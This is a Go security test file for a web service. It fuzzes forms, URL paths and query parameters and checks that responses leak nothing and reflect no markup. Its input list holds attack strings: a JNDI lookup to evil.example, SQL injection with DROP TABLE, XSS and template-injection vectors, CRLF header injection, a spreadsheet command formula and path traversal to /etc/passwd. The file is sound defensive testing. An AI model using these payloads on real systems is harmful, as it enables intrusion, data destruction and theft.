package server

import (
	"fmt"
	"maps"
	"net/http"
	"net/url"
	"os"
	"slices"
	"strings"
	"testing"

	"ipstoolkit/tenants"
	"ipstoolkit/tenants/store"
	"ipstoolkit/toolkit/assessment"
	"ipstoolkit/toolkit/edition"
)

// hostile are values that nobody means well with, or that a program easily gets wrong.
var hostile = []string{
	"", " ", "\t\r\n", "\u200b\u200d\ufeff", "\u202egnp.exe", "\u200f\u061c\u2067x", "\u2028\u2029", "e" + strings.Repeat("\u0301", 500),
	"👩‍👩‍👧‍👦\U0001f3f4\U000e0067",
	"null", "undefined", "true", "__proto__", "constructor", "{\"a\":[1]}", "-", "\\", "%00", "%2e%2e%2f", "%s%n%d",
	"${jndi:ldap://evil.example/a}",
	"1e309", "-1e309", "NaN", "Infinity", "-1", "0", "00", "0x41", "1_000", "1,2,3", "٣", "９", "99999999999999999999",
	"9223372036854775808", "0.30000000000000000000004",
	"2026-02-30", "0000-00-00", "10000-01-01", "2026Q5", "31", "13",
	"' OR '1'='1", "'; DROP TABLE entries; --", "1) UNION ALL VALUES (1, 2", "%_%", "a' || randomblob(1000000000) || '",
	`{{.}}`, `{{printf "%s" "hos"}}tile-run`, `{{template "layout.html" .}}`, "<%= 7*7 %>",
	"<hostile-tag>", `"><hostile-tag x="`, `'><hostile-tag x='`, "</textarea><hostile-tag>", "</title></style></script><hostile-tag>",
	"<!--<hostile-tag>",
	`" onfocus="hostile()" autofocus x="`, "javascript:hostile()", "&lt;hostile-tag&gt;", "data:text/html,<hostile-tag>",
	"https://evil.example/<hostile-tag>",
	"a\r\nSet-Cookie: hostile=1", `=HYPERLINK("https://evil.example")`, "=cmd|' /C calc'!A0", "../../../../etc/passwd", `..\..\x`,
	"C:\\con", "file:///etc/passwd", "//evil.example/",
	strings.Repeat("1", 400), strings.Repeat("W", 1000),
}

// large are values that take much time or memory where a program is careless.
var large = []string{
	strings.Repeat("m", 1<<20), strings.Repeat("a ", 20_000), strings.Repeat("\n", 20_000), strings.Repeat("[", 20_000),
	strings.Repeat("<b>", 20_000),
}

// unreadable are values that no form may hold at all.
var unreadable = []string{"a\x00b", "\x00", "\xff\xfe", "\xc3\x28", "\xed\xa0\x80", "caf\xe9"}

// soak tells to try every value alone in every field, which takes minutes; every day's test spreads them out over
// the fields of a form and over the addresses.
var soak = os.Getenv("IPS_SOAK") != ""

// turn are some of the values, others at each turn: all of them after enough turns.
func turn(values []string, turn, some int) []string {
	if soak {
		return values
	}
	list := make([]string, 0, some)
	for i := range some {
		list = append(list, values[(turn*some+i)%len(values)])
	}
	return list
}

// internals are words that only somebody who looks after the program should read.
var internals = []string{
	"goroutine ", "template:", "sqlite", "SQL logic", "no such table", "no such column", "constraint failed", ".go:", "runtime error",
	"strconv.", `parsing &#34;`,
	"pgx", "panic", "html/template", "invalid syntax", "tenant_id", "nil pointer", "&lt;nil&gt;", "%!", "ZgotmplZ", "context canceled",
	"context deadline",
}

// unharmed checks that an answer shows nothing that it should not, whatever was asked.
func unharmed(t *testing.T, what string, got answer) {
	t.Helper()
	if got.status >= 500 {
		t.Errorf("%s: status %d", what, got.status)
	}
	if strings.HasPrefix(got.header.Get("Content-Type"), "text/") {
		for _, word := range internals {
			if strings.Contains(got.body, word) {
				t.Errorf("%s: shows %q", what, word)
			}
		}
	}
	page := !got.isFile()
	for _, raw := range []string{
		"<hostile-tag", `" onfocus="hostile`, "hostile-run", `href="javascript:`, `href="data:`, `src="data:`,
		`action="javascript:`,
	} {
		if page && strings.Contains(got.body, raw) {
			t.Errorf("%s: %s comes back as it was", what, raw)
		}
	}
	if strings.Contains(got.header.Get("Set-Cookie"), "hostile") {
		t.Errorf("%s: sets a cookie", what)
	}
	if at := got.header.Get("Location"); strings.HasPrefix(at, "//") || strings.Contains(at, "evil") && !strings.HasPrefix(at, "/") {
		t.Errorf("%s: leads to %q", what, at)
	}
}

// isFile says whether a browser saves the answer in the place of showing it, and never guesses that it is a page: what people
// typed may be in it as they typed it.
func (a answer) isFile() bool {
	return strings.HasPrefix(a.header.Get("Content-Disposition"), "attachment") && a.header.Get("X-Content-Type-Options") == "nosniff"
}

// unlimited is a service in which nobody has to wait.
func unlimited(c *Config) {
	often := Rate{1 << 30, 1 << 30}
	c.Limits = Limits{often, often, often, 1 << 30}
}

// doors are the addresses where a crawl of an ICB begins: every page that the list of routes has a sample of.
func (s *site) doors(code string) []string {
	list := []string{
		"/", "/my-icbs", "/my-work", "/account", "/account/reminders", s.at(route{sample: "/icb/:code/targets/{own}"}, code),
		"/icb/" + code + "/toolkit/1.2",
	}
	for _, r := range routes {
		if method, _, _ := strings.Cut(r.pattern, " "); method == http.MethodGet && strings.HasPrefix(r.sample, "/icb/") {
			list = append(list, s.at(r, code))
		}
	}
	return list
}

// TestHostileForms sends every hostile value through every field of every form that each role can find.
func TestHostileForms(t *testing.T) {
	s := start(t, unlimited)
	token, err := s.For(s.Lead).Invite(t.Context(), store.Invitation{Name: "Newcomer", Role: tenants.Reader})
	if err != nil {
		t.Fatal(err)
	}
	// No steering group meeting is recorded, so the form that answers a difference is there.
	steering, _ := edition.Current().Priority("1.2")
	if _, err := s.For(s.Lead).SaveEntry(t.Context(), steering, assessment.Entry{Status: assessment.InPlace}); err != nil {
		t.Fatal(err)
	}
	// Another provider sees it otherwise, so the form that comments on a difference of views is there.
	if err := s.For(s.ProviderB).SaveView(t.Context(), steering, assessment.View{Status: assessment.NotStarted}); err != nil {
		t.Fatal(err)
	}
	done, reached := map[string]bool{}, map[string]bool{}
	for _, key := range []string{"reader", "provider-a", "commissioner", "lead", "nobody"} {
		b := s.near(t, key)
		at := s.doors("QWE")
		if key == "nobody" {
			at = []string{"/invitations/" + token}
		}
		forms := s.crawl(b, at, func(path string, got answer) { unharmed(t, "GET "+path, got) })
		// What ends something for good comes last, so that it does not end what others would be sent to.
		slices.SortStableFunc(forms, func(a, b form) int { return len(b.fields) - len(a.fields) })
		for _, f := range forms {
			reached[f.method+" "+f.route] = true
			if id := f.key(); !done[id] {
				done[id] = true
				s.attack(t, b, f)
			}
		}
		s.crawl(b, at, func(path string, got answer) { unharmed(t, "afterwards, GET "+path, got) })
	}
	for route := range s.routes {
		if strings.HasPrefix(route, "POST /icb/") && !reached[route] && !decidedOnly[route] {
			t.Errorf("no form was found that goes to %s", route)
		}
	}
}

// decidedOnly are forms without anything that is typed, which are there only once a newer edition of the toolkit is loaded.
var decidedOnly = map[string]bool{
	"POST /icb/:code/rounds/:quarter/edition": true, "POST /icb/:code/rounds/:quarter/edition/undo": true,
}

// attack sends the hostile values through a form. The fields that are typed into get them side by side, each another
// one, and the next time round the next one; the others, which decide what is done with them, one at a time.
func (s *site) attack(t *testing.T, b *browser, f form) {
	t.Helper()
	send := func(what string, changed url.Values) answer {
		t.Helper()
		got := b.send(f, changed)
		unharmed(t, fmt.Sprintf("%s %s, %s", f.method, f.action, what), got)
		if got.status == http.StatusSeeOther && f.method == http.MethodPost {
			f = s.again(b, f)
		}
		return got
	}
	var typed, others []field
	stride := 6
	if soak {
		stride = 1
	}
	for _, one := range f.fields {
		if one.kind == "typed" || one.kind == "file" {
			typed = append(typed, one)
		} else {
			others = append(others, one)
		}
	}
	for i := 0; i < len(hostile) && len(typed) > 0; i += stride {
		changed := url.Values{}
		for n, one := range typed {
			changed[one.name] = []string{hostile[(i+n)%len(hostile)]}
		}
		send(fmt.Sprintf("%s=%.30q and so on", typed[0].name, hostile[i]), changed)
	}
	some := 12/max(1, len(others)) + 1
	for i, one := range others {
		for _, value := range turn(hostile, i, some) {
			send(fmt.Sprintf("%s=%.30q", one.name, value), url.Values{one.name: {value}})
		}
		send(one.name+" left out", url.Values{one.name: nil})
	}
	for i, one := range f.fields {
		for _, value := range turn(unreadable, i, 1) {
			got := send(fmt.Sprintf("%s=%.30q", one.name, value), url.Values{one.name: {value}})
			if one.kind != "file" && got.status != http.StatusBadRequest && got.status != http.StatusNotFound {
				t.Errorf("%s %s, %s=%q: status %d, want 400", f.method, f.action, one.name, value, got.status)
			}
		}
		if soak || i == 0 {
			for _, value := range turn(large, len(f.key()), 1) {
				send(fmt.Sprintf("%s of %d bytes", one.name, len(value)), url.Values{one.name: {value}})
			}
		}
		if soak || i%3 == 0 {
			send(one.name+" twice", url.Values{one.name: {"a", "b"}})
		}
	}
}

// again is a form as it is on its page now: what was saved has another version.
func (s *site) again(b *browser, f form) form {
	_, forms := s.read(f.page, b.ask("GET", f.page, nil).body)
	for _, one := range forms {
		if one.key() == f.key() {
			return one
		}
	}
	return f
}

// TestHostileAddresses puts every hostile value in the place of every part of every address.
func TestHostileAddresses(t *testing.T) {
	oneByOne(t)
	s := start(t, unlimited)
	b, turns := s.near(t, "lead"), 0
	for route := range s.routes {
		method, pattern, _ := strings.Cut(route, " ")
		if strings.Contains(pattern, "sign") || strings.HasPrefix(pattern, "/assets") {
			continue
		}
		for _, one := range routes {
			if one.pattern != route || one.sample == "" {
				continue
			}
			sample := strings.Split(s.at(one, "QWE"), "/")
			for i, part := range strings.Split(pattern, "/") {
				if !strings.HasPrefix(part, ":") {
					continue
				}
				turns++
				for _, value := range turn(slices.Concat(hostile[1:], unreadable), turns, 16) {
					parts := slices.Clone(sample)
					parts[i] = url.PathEscape(value)
					got := b.ask(method, strings.Join(parts, "/"), nil)
					unharmed(t, fmt.Sprintf("%s with %.30q", route, value), got)
					if got.status < 300 && value != "0" {
						t.Errorf("%s with %.30q: status %d", route, value, got.status)
					}
				}
			}
		}
	}
}

// TestHostileParameters puts every hostile value in every parameter that an address of the service has.
func TestHostileParameters(t *testing.T) {
	s := start(t, unlimited)
	turns := 0
	for _, key := range []string{"lead", "provider-a", "reader"} {
		b := s.near(t, key)
		names := map[string]bool{"saved": true, "q": true, "page": true, "for": true, "next": true, "with": true}
		var pages []string
		s.crawl(b, s.doors("QWE"), func(path string, got answer) {
			u := mustParse(path)
			for name := range u.Query() {
				names[name] = true
			}
			if u.RawQuery == "" && got.status == http.StatusOK {
				pages = append(pages, path)
			}
		})
		for _, path := range pages {
			turns++
			for i := range turn(hostile, turns, 8) {
				q, n := url.Values{}, turns*8+i
				for _, name := range slices.Sorted(maps.Keys(names)) {
					q.Set(name, hostile[n%len(hostile)])
					n++
				}
				unharmed(t, fmt.Sprintf("GET %s?%.200s", path, q.Encode()), b.ask("GET", path+"?"+q.Encode(), nil))
			}
		}
	}
}
